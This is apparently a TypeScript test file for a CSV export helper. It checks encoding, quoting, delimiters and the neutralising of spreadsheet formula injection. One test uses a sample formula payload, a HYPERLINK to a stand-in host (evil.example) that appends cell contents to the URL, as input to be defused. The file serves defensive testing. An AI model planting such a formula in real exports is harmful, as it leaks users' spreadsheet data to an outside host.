import Papa from 'papaparse';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { downloadCsv, toCsv, unguardCell } from './csv-file';

const HEADER = ['Linha', 'Nome', 'E-mail'];

/** The cells of `csv` as a spreadsheet would read them (papaparse drops the BOM). */
function parse(csv: string, delimiter: ',' | ';' | '\t' = ','): string[][] {
  const result = Papa.parse<string[]>(csv, { delimiter, newline: '\r\n' });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe('toCsv', () => {
  it('starts with a BOM, ends lines with CRLF, and quotes only what needs it', () => {
    const csv = toCsv(
      HEADER,
      [
        ['2', 'Ana Souza', 'ana@example.com'],
        ['3', 'Souza, Bruno', 'bruno@example.com'],
      ],
      ',',
    );

    expect(csv).toBe(
      '\uFEFFLinha,Nome,E-mail\r\n2,Ana Souza,ana@example.com\r\n3,"Souza, Bruno",bruno@example.com',
    );
  });

  it('is the header alone when there are no rows', () => {
    expect(toCsv(HEADER, [], ',')).toBe('\uFEFFLinha,Nome,E-mail');
  });

  it('round-trips accents, quotes, delimiters, line breaks and empty cells', () => {
    const rows = [
      ['2', 'João Conceição Müller', 'joao@example.com'],
      ['3', 'Ana "Aninha" d\'Ávila', ''],
      ['4', 'linha um\r\nlinha dois', 'a,b;c\td'],
      ['5', ' espaços ', 'x=y'],
    ];

    const csv = toCsv(HEADER, rows, ',');

    expect(parse(csv)).toEqual([HEADER, ...rows]);
    expect(csv).toContain('"Ana ""Aninha"" d\'Ávila"');
  });

  it.each([';', '\t'] as const)('separates cells with %j', (delimiter) => {
    const rows = [['2', 'Souza, Ana', 'ana@example.com']];

    const csv = toCsv(HEADER, rows, delimiter);

    expect(csv).toBe(
      `\uFEFF${['Linha', 'Nome', 'E-mail'].join(delimiter)}\r\n${rows[0]!.join(delimiter)}`,
    );
    expect(parse(csv, delimiter)).toEqual([HEADER, ...rows]);
  });

  it.each([
    ['=', '=1+1'],
    ['+', '+55 11 91234-5678'],
    ['-', '-2+3'],
    ['@', '@SUM(A1:A9)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['spaces then =', '  =1+1'],
    ['a no-break space then +', '\u00a0+1'],
    ['an ideographic space then @', '\u3000@SUM(A1:A9)'],
    ['a full-width =', '\uff1d1+1'],
    ['a full-width +', '\uff0b1'],
    ['a full-width -', '\uff0d1'],
    ['a full-width @', '\uff20SUM(A1:A9)'],
  ])('neutralises a cell starting with %s', (_name, value) => {
    const csv = toCsv(HEADER, [['2', value, 'x@example.com']], ';');

    expect(parse(csv, ';')[1]).toEqual(['2', `'${value}`, 'x@example.com']);
  });

  it('neutralises a formula with a line break after its first character', () => {
    const value = '=HYPERLINK("http://evil.example/?"&A1;"Clique")\nx';
    // papaparse's own guard lets this one through.
    expect(Papa.unparse([[value]], { escapeFormulae: true })).not.toContain(`'=`);

    const csv = toCsv(HEADER, [['2', value, '\n=1+1']], ',');

    expect(parse(csv)[1]).toEqual(['2', `'${value}`, `'\n=1+1`]);
  });

  it('leaves formula characters alone after the start of a cell', () => {
    const rows = [
      ['2', 'Ana-Maria @ casa', 'ana+turma=9@example.com'],
      ['3', ' Ana ＝ Bia', ' x'],
    ];

    expect(parse(toCsv(HEADER, rows, ','))).toEqual([HEADER, ...rows]);
  });
});

describe('unguardCell', () => {
  it.each([
    ['an address starting with -', '-3+4@escola.test'],
    ['an address starting with +', '+ana@escola.test'],
    ['a phone number', '+55 11 91234-5678'],
    ['a formula', '=1+1'],
    ['a full-width @', '\uff20SUM(A1:A9)'],
    ['spaces then =', '  =1+1'],
    ['a tab', '\tAna'],
    ['a value that starts with the guard itself', "'=1+1"],
    ['two of them', "''-1"],
    ['an apostrophe before a letter', "'Ana"],
    ['an apostrophe inside', "d'Ávila"],
    ['an apostrophe alone', "'"],
  ])('gives back %s exactly as it was before the file', (_name, value) => {
    const [, row = []] = parse(toCsv(HEADER, [['2', value, value]], ';'), ';');
    expect(row.map(unguardCell)).toEqual(['2', value, value]);
  });

  it('takes off only the one apostrophe the guard puts before = + - @', () => {
    expect(unguardCell("'-3+4@escola.test")).toBe('-3+4@escola.test');
    expect(unguardCell("''=1")).toBe("'=1");
    expect(unguardCell("'ana@escola.test")).toBe("'ana@escola.test");
    expect(unguardCell("' Ana")).toBe("' Ana");
  });
});

describe('downloadCsv', () => {
  // Not vi.restoreAllMocks(): that would also undo the console.error spy of src/testing/setup.ts.
  let restoreClick = () => {};
  afterEach(() => {
    restoreClick();
    vi.useRealTimers();
    vi.unstubAllGlobals();
  });

  it('saves the text as a UTF-8 CSV through a temporary link, and frees the URL later', async () => {
    vi.useFakeTimers();
    let blob: Blob | undefined;
    const createObjectURL = vi.fn((object: Blob) => {
      blob = object;
      return 'blob:results';
    });
    const revokeObjectURL = vi.fn();
    vi.stubGlobal('URL', Object.assign(class extends URL {}, { createObjectURL, revokeObjectURL }));
    const clicked: HTMLAnchorElement[] = [];
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (
      this: HTMLAnchorElement,
    ) {
      expect(this.isConnected).toBe(true);
      clicked.push(this);
    });
    restoreClick = () => click.mockRestore();

    const csv = toCsv(HEADER, [['2', 'João', 'joao@example.com']], ',');
    downloadCsv('resultados.csv', csv);

    expect(clicked).toHaveLength(1);
    expect(clicked[0]?.download).toBe('resultados.csv');
    expect(clicked[0]?.getAttribute('href')).toBe('blob:results');
    expect(clicked[0]?.isConnected).toBe(false);
    expect(blob?.type).toBe('text/csv;charset=utf-8');
    const bytes = new Uint8Array(await blob!.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(revokeObjectURL).not.toHaveBeenCalled();

    vi.runAllTimers();
    expect(revokeObjectURL).toHaveBeenCalledWith('blob:results');
  });
});
